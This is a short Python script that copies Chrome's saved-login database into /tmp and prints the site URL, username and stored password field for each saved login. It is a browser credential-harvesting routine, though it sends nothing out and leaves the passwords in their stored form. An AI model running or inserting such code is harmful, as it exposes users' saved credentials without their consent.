import os, shutil, sqlite3
src = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
shutil.copy2(src, "/tmp/ld.db")
db = sqlite3.connect("/tmp/ld.db")
for row in db.execute("select origin_url, username_value, password_value from logins"):
    print(row)
